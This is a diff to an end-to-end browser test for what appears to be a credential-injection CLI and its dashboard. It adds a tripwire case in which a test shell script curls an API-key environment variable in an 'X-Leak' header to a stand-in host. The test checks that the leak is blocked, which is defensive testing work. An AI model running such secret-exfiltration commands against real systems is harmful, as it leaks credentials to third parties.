@@ -2,7 +2,7 @@
  * The dashboard in real headless Chromium (playwright-core + Debian's chromium), against the
  * installed CLI's `authsome ui`: log in an API key through the page and see it listed, switch
  * the default, explain a URL, watch an `authsome run`'s injected and blocked requests appear
- * live, revoke with confirmation; a cross-origin page's fetch, no-cors post, form post and
+ * live (injected, blocked by --deny-unmatched, stopped by a tripwire), revoke with confirmation; a cross-origin page's fetch, no-cors post, form post and
  * EventSource and a DNS-rebinding Host all fail; no secret in any page or response. Screenshots
  * of the main views go to test-output/screenshots/ (gitignored) for a person to look at.
  */
@@ -74,11 +74,16 @@ const shot = (name: string) => page.screenshot({ path: join(SHOTS, `${name}.png`
 before(async () => {
   if (skip !== false) return;
   await mkdir(SHOTS, { recursive: true });
-  setup = await startHomeWithUpstream(["api", "blocked"]);
+  setup = await startHomeWithUpstream(["api", "blocked", "other"]);
   const plugin = join(setup.home.home, "acme.json");
   await writeFile(plugin, JSON.stringify({ name: "acme", displayName: "Acme", authType: "api_key", inject: [{ host: "api.example.test" }], env: { ACME_API_KEY: "api_key" } }));
-  const added = await runCli(["providers", "add", plugin], { env: setup.env });
-  assert.equal(added.code, 0, added.stderr);
+  // A second provider, connected, whose host the run intercepts: acme's placeholder sent there trips the tripwire.
+  const beta = join(setup.home.home, "beta.json");
+  await writeFile(beta, JSON.stringify({ name: "beta", authType: "api_key", inject: [{ host: "other.example.test" }] }));
+  for (const args of [["providers", "add", plugin], ["providers", "add", beta]]) {
+    const added = await runCli(args, { env: setup.env });
+    assert.equal(added.code, 0, added.stderr);
+  }
   ({ child: ui, link } = await startUi(setup.env));
   uiUrl = new URL(link).origin;
   attacker = createServer((_req, res) => res.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>attacker</title><p>a page on another origin</p>"));
@@ -150,16 +155,20 @@ test("explain a URL from the explain box (keyboard only)", { skip }, async () =>
 });
 
 test("an authsome run's hosts, injected and blocked requests appear live", { skip }, async () => {
+  const betaLogin = await runCli(["login", "beta"], { env: setup.env, input: "beta-ui-key-0004-abcdef" });
+  assert.equal(betaLogin.code, 0, betaLogin.stderr);
   await page.getByRole("link", { name: "Running agents" }).click();
   await page.locator("#no-runs").waitFor();
   const { command, args } = cliCommand();
   const blocked = setup.base.replace("api.example.test", "blocked.example.test");
-  const script = `curl -sS --fail -o /dev/null "${setup.base}/v1/models" && (curl -sS -o /dev/null "${blocked}/x" || true) && (read _hold || true)`;
+  const other = setup.base.replace("api.example.test", "other.example.test");
+  // Injected, blocked by the allowlist, stopped by the tripwire (acme's placeholder bound for beta's host), then held open.
+  const script = `curl -sS --fail -o /dev/null "${setup.base}/v1/models" && (curl -sS -o /dev/null "${blocked}/x" || true) && (curl -sS -o /dev/null -H "X-Leak: $ACME_API_KEY" "${other}/leak" || true) && (read _hold || true)`;
   const run = spawn(command, [...args, "run", "--deny-unmatched", "--", "sh", "-c", script], { env: { ...process.env, ...setup.env, NO_COLOR: "1" }, stdio: ["pipe", "ignore", "pipe"] });
   let err = "";
   run.stderr?.on("data", (d) => (err += d));
   try {
-    await page.waitForFunction(() => document.querySelector("#runs td.injected")?.textContent === "1" && document.querySelector("#runs td.blocked")?.textContent?.startsWith("1") === true, undefined, { timeout: 30_000 }).catch((error: unknown) => {
+    await page.waitForFunction(() => document.querySelector("#runs td.injected")?.textContent === "1" && document.querySelector("#runs td.blocked")?.textContent?.startsWith("1") === true && document.querySelector("#runs td.tripped")?.textContent === "1", undefined, { timeout: 30_000 }).catch((error: unknown) => {
       throw new Error(`the live view did not show the run: ${String(error)}; run stderr: ${err}`);
     });
     const row = await page.locator("#runs tbody tr").first().innerText();
@@ -171,6 +180,7 @@ test("an authsome run's hosts, injected and blocked requests appear live", { ski
     const feed = await page.locator("#run-events").innerText();
     assert.match(feed, /injected GET api\.example\.test via acme\/work \(200\)/);
     assert.match(feed, /blocked blocked\.example\.test \(403\)/);
+    assert.match(feed, /tripped GET other\.example\.test via acme \(403\)/);
     await shot("04-runs-live");
   } finally {
     run.stdin?.end();
@@ -178,6 +188,7 @@ test("an authsome run's hosts, injected and blocked requests appear live", { ski
   assert.equal(await exited(run), 0, err);
   await page.locator("#runs td", { hasText: "ended" }).waitFor();
   assert.equal(setup.upstream.requests.filter((r) => r.headers.authorization === `Bearer ${KEY_WORK}`).length, 1, "the upstream got the key");
+  assert.equal(setup.upstream.requests.filter((r) => r.url === "/leak").length, 0, "the tripped request never left");
 });
 
 test("a page on another origin can neither read nor change anything; a rebinding Host is refused", { skip }, async () => {
